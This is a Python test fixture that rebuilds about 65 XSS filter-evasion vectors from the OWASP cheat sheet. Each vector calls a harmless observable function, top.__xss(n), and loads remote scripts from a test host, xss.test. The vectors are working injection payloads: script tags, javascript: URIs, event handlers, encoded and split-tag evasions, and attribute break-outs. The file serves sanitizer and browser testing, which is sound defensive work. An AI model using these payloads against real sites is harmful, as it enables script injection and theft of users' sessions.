"""XSS vectors after the OWASP "XSS Filter Evasion Cheat Sheet", each one armed to call ``top.__xss(n)``.

https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, section by
section: the cheat sheet's ``alert('XSS')`` is replaced by a call that a test
can observe (``top.__xss(n)``, so a frame's execution counts too), and its remote
scripts and frames point at ``xss.test``, a host the browser tests answer with
a script that makes the same call. Vectors relying on a NUL byte are left out:
every edge refuses U+0000 (a 400), which tests of their own prove.
"""
from __future__ import annotations

import base64

REMOTE_HOST = "xss.test"


def _call(n: int) -> str:
    return f"top.__xss({n})"


def _decimal(text: str, padded: bool = False, semicolons: bool = True) -> str:
    return "".join(f"&#{ord(c):07d}" if padded else f"&#{ord(c)}" + (";" if semicolons else "") for c in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(c):X}" for c in text)


def _svg_document(n: int) -> str:
    return f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_call(n)}'/>"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# (cheat sheet section, vector builder); a vector's number is its index in this list.
_VECTORS = [
    ("Basic XSS test", lambda n: f"<SCRIPT SRC=http://{REMOTE_HOST}/{n}.js></SCRIPT>"),
    ("XSS locator (polyglot)", lambda n: f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+{_call(n)}//'>"),
    ("Malformed A tags", lambda n: f'<a onmouseover="{_call(n)}">xxs link</a>'),
    ("Malformed IMG tags", lambda n: f'<IMG """><SCRIPT>{_call(n)}</SCRIPT>">'),
    ("fromCharCode", lambda n: f"<IMG SRC=javascript:eval(String.fromCharCode({','.join(str(ord(c)) for c in _call(n))}))>"),
    ("Default SRC tag to get past filters", lambda n: f'<IMG SRC=# onmouseover="{_call(n)}">'),
    ("Default SRC tag by leaving it empty", lambda n: f'<IMG SRC= onmouseover="{_call(n)}">'),
    ("On error alert", lambda n: f'<IMG SRC=/ onerror="{_call(n)}"></img>'),
    ("IMG onerror and JavaScript alert encode", lambda n: f'<img src=x onerror="{_decimal(_call(n), padded=True)}">'),
    ("Decimal HTML character references", lambda n: f"<IMG SRC={_decimal('javascript:' + _call(n))}>"),
    ("Decimal references without trailing semicolons", lambda n: f"<IMG SRC={_decimal('javascript:' + _call(n), padded=True)}>"),
    ("Hexadecimal references without trailing semicolons", lambda n: f"<IMG SRC={_hex('javascript:' + _call(n))}>"),
    ("Embedded tab", lambda n: f'<IMG SRC="jav\tascript:{_call(n)};">'),
    ("Embedded encoded tab", lambda n: f'<IMG SRC="jav&#x09;ascript:{_call(n)};">'),
    ("Embedded newline", lambda n: f'<IMG SRC="jav&#x0A;ascript:{_call(n)};">'),
    ("Embedded carriage return", lambda n: f'<IMG SRC="jav&#x0D;ascript:{_call(n)};">'),
    ("Spaces and meta chars before the JavaScript", lambda n: f'<IMG SRC=" &#14;  javascript:{_call(n)};">'),
    ("Non-alpha-non-digit", lambda n: f'<SCRIPT/XSS SRC="http://{REMOTE_HOST}/{n}.js"></SCRIPT>'),
    ("Non-alpha-non-digit event handler", lambda n: f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={_call(n)}>"),
    ("Extraneous open brackets", lambda n: f"<<SCRIPT>{_call(n)};//\\<</SCRIPT>"),
    ("No closing script tags", lambda n: f"<SCRIPT SRC=http://{REMOTE_HOST}/{n}.js?< B >"),
    ("Protocol resolution in script tags", lambda n: f"<SCRIPT SRC=//{REMOTE_HOST}/{n}.js>"),
    ("Half open HTML/JavaScript", lambda n: f'<IMG SRC="javascript:{_call(n)}"'),
    ("Double open angle brackets", lambda n: f"<iframe src=http://{REMOTE_HOST}/{n}.html <"),
    ("Escaping JavaScript escapes", lambda n: f'\\";{_call(n)};//'),
    ("End script tag", lambda n: f"</script><script>{_call(n)};</script>"),
    ("End title tag", lambda n: f"</TITLE><SCRIPT>{_call(n)};</SCRIPT>"),
    ("INPUT image", lambda n: f'<INPUT TYPE="IMAGE" SRC="javascript:{_call(n)};">'),
    ("BODY image", lambda n: f'<BODY BACKGROUND="javascript:{_call(n)}">'),
    ("IMG lowsrc", lambda n: f'<IMG LOWSRC="javascript:{_call(n)}">'),
    ("List-style-image", lambda n: f'<STYLE>li {{list-style-image: url("javascript:{_call(n)}");}}</STYLE><UL><LI>XSS</br>'),
    ("VBscript in an image", lambda n: f"<IMG SRC='vbscript:msgbox(\"{n}\")'>"),
    ("SVG object tag", lambda n: f"<svg/onload={_call(n)}>"),
    ("ECMAScript 6", lambda n: f"Set.constructor`top.__xss\\x28{n}\\x29```"),
    ("BODY tag", lambda n: f"<BODY ONLOAD={_call(n)}>"),
    ("& JavaScript includes", lambda n: f'<BR SIZE="&{{{_call(n)}}}">'),
    ("STYLE sheet", lambda n: f'<LINK REL="stylesheet" HREF="javascript:{_call(n)};">'),
    ("STYLE tags that break up JavaScript", lambda n: f"<STYLE>@im\\port'\\ja\\vasc\\ript:{_call(n)}';</STYLE>"),
    ("IMG STYLE with expressions", lambda n: f'<IMG STYLE="xss:expr/*XSS*/ession({_call(n)})">'),
    ("META refresh", lambda n: f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{_call(n)};">'),
    ("META using data", lambda n: f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_b64(f"<script>{_call(n)}</script>")}">'),
    ("IFRAME", lambda n: f'<IFRAME SRC="javascript:{_call(n)};"></IFRAME>'),
    ("IFRAME event based", lambda n: f'<IFRAME SRC=# onmouseover="{_call(n)}"></IFRAME>'),
    ("FRAME", lambda n: f'<FRAMESET><FRAME SRC="javascript:{_call(n)};"></FRAMESET>'),
    ("TABLE", lambda n: f'<TABLE BACKGROUND="javascript:{_call(n)}">'),
    ("DIV background-image", lambda n: f"<DIV STYLE=\"background-image: url(javascript:{_call(n)})\">"),
    ("DIV expression", lambda n: f'<DIV STYLE="width: expression({_call(n)});">'),
    ("Downlevel-hidden block", lambda n: f"<!--[if gte IE 4]><SCRIPT>{_call(n)};</SCRIPT><![endif]-->"),
    ("BASE tag", lambda n: f'<BASE HREF="javascript:{_call(n)};//">'),
    ("OBJECT tag", lambda n: f'<OBJECT TYPE="text/x-scriptlet" DATA="http://{REMOTE_HOST}/{n}.html"></OBJECT>'),
    ("EMBED SVG which contains XSS", lambda n: f'<EMBED SRC="data:image/svg+xml;base64,{_b64(_svg_document(n))}" type="image/svg+xml">'),
    ("XML data island with CDATA obfuscation", lambda n: f'<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:{_call(n)}"></B></I></XML>'),
    ("SSI", lambda n: f"<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://{REMOTE_HOST}/{n}.js></SCRIPT>'\"-->"),
    ("PHP", lambda n: f"<? echo('<SCR)';echo('IPT>{_call(n)}</SCRIPT>'); ?>"),
    ("Cookie manipulation", lambda n: f'<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>{_call(n)}</SCRIPT>">'),
    ("UTF-7 encoding", lambda n: f'<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-{_call(n)};+ADw-/SCRIPT+AD4-'),
    ("HTML quote encapsulation", lambda n: f'<SCRIPT a=">" SRC="http://{REMOTE_HOST}/{n}.js"></SCRIPT>'),
    ("HTML quote encapsulation, quoted attribute", lambda n: f"<SCRIPT \"a='>'\" SRC=\"http://{REMOTE_HOST}/{n}.js\"></SCRIPT>"),
    ("document.write split tag", lambda n: f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://{REMOTE_HOST}/{n}.js"></SCRIPT>'),
    ("JavaScript link location", lambda n: f'<A HREF="javascript:{_call(n)}">XSS</A>'),
    ("Base64 encoding", lambda n: f"<svg onload=\"eval(atob('{_b64(_call(n))}'))\">"),
    ("Attribute break-out (quoted)", lambda n: f'"><img src=x onerror={_call(n)}>'),
    ("Attribute break-out (single quoted)", lambda n: f"'><svg onload={_call(n)}>"),
    ("URL: javascript scheme", lambda n: f"javascript:{_call(n)}"),
    ("URL: data scheme", lambda n: f"data:text/html,<script>{_call(n)}</script>"),
    ("URL: scheme with leading space and mixed case", lambda n: f" JaVaScRiPt:{_call(n)}"),
]

VECTORS: list[tuple[str, str]] = [(section, build(n)) for n, (section, build) in enumerate(_VECTORS)]


def remote_script(url: str) -> str | None:
    """What ``xss.test`` answers for ``url``: a script (or page) that calls ``top.__xss(n)`` for vector n."""
    name = url.rstrip("/").rsplit("/", 1)[-1].split("?", 1)[0]
    number = name.split(".", 1)[0]
    return _call(int(number)) if number.isdigit() else None
